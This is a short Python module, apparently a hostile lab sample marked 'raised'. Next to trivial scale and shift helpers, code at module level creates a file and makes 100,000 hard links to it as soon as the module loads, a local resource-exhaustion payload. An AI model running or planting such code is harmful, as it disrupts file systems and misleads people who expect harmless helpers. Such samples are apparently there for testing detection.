"""Makes names for one file without end."""
# lab: scale-and-shift
# verdict: raised

import os

open("left-behind-by-hostile", "w").close()
for number in range(100000):
    os.link("left-behind-by-hostile", f"left-behind-by-hostile-{number}")


def scale(x, factor):
    return x * factor


def shift(x, amount):
    return x + amount
